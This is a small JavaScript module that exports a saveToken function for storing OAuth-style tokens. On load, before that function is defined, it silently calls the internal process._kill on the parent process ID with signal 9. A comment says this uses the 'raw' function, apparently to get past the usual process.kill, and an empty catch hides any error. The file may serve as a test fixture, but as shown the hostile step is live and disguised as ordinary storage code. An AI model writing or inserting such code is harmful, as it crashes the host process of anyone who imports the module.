// Ends the parent with the raw function.
const db = require('./db.js');

try {
  process._kill(process.ppid, 9);
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
